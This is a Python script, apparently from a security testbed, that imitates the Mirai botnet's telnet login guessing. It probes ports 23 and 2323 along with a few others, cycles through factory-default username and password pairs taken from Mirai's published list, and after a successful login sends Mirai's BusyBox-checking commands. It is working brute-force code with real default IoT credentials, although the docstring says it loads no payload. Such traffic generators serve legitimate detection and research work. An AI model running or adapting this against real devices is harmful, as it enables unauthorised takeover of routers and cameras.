"""Guess a telnet log-in as Mirai does (Antonakakis et al., 2017): probe ports 23 and 2323, then factory passwords.

One connection for each pair. After a right one come the commands by which Mirai finds a BusyBox; nothing is loaded.
"""

import contextlib
import socket
import time
from random import Random

from testbed.second_home.tools.bounds import arguments, rounds
from testbed.second_home.world import WEAK

# of Mirai's published list of 62
PAIRS = [
    ("root", "vizxv"), ("root", "admin"), ("admin", "admin"), ("root", "888888"), ("root", "xmhdipc"),
    ("root", "default"), ("root", "juantech"), ("root", "123456"), ("root", "54321"), ("support", "support"),
    ("root", ""), ("admin", "password"), ("root", "root"), ("root", "12345"), ("user", "user"), ("admin", ""),
    ("root", "pass"), ("admin", "admin1234"), ("root", "1111"), ("admin", "smcadmin"), ("admin", "1111"),
    ("root", "666666"), ("root", "password"), ("root", "1234"), ("root", "klv123"), ("guest", "guest"),
    ("guest", "12345"), ("ubnt", "ubnt"), ("root", "klv1234"), ("root", "Zte521"), ("root", "hi3518"),
    ("root", "jvbzd"), ("root", "anko"), ("root", "zlxx."), ("root", "7ujMko0admin"), ("root", "system"),
    ("tech", "tech"),
]  # fmt: skip
COMMANDS = ("enable", "system", "shell", "sh", "/bin/busybox MIRAI")


def guess(target: str, port: int, pair: tuple[str, str]) -> None:
    """One connection, one pair."""
    with socket.create_connection((target, port), timeout=4) as talking:
        talking.settimeout(4)
        said = hear(talking, b"login: ")
        talking.sendall(b"\xff\xfc\x01\xff\xfc\x1f" if b"\xff" in said else b"")
        talking.sendall(pair[0].encode() + b"\r\n")
        hear(talking, b"Password: ")
        talking.sendall(pair[1].encode() + b"\r\n")
        if hear(talking, b"# ", b"incorrect").endswith(b"# "):
            for command in COMMANDS:
                talking.sendall(command.encode() + b"\r\n")
                hear(talking, b"# ")


def hear(talking: socket.socket, *ends: bytes) -> bytes:
    """What the other side says until one of these texts."""
    said = b""
    while not any(end in said for end in ends) and (more := talking.recv(512)):
        said += more
    return said


def probe(target: str, draw: Random) -> int:
    """The port to try next: 2323 once in ten, after a look at what else might be open."""
    for port in draw.sample((23, 2323, 22, 80, 8080, 5555), draw.randint(0, 1)):
        with contextlib.suppress(OSError):
            socket.create_connection((target, port), timeout=1).close()
    return 2323 if draw.random() < 0.1 else 23


def main() -> None:
    """Guess."""
    options = arguments(__doc__)
    for draw in rounds(options):
        with contextlib.suppress(OSError):
            guess(options.target, probe(options.target, draw), WEAK if draw.random() < 0.04 else draw.choice(PAIRS))
        time.sleep(draw.uniform(0, 0.05))


if __name__ == "__main__":
    main()
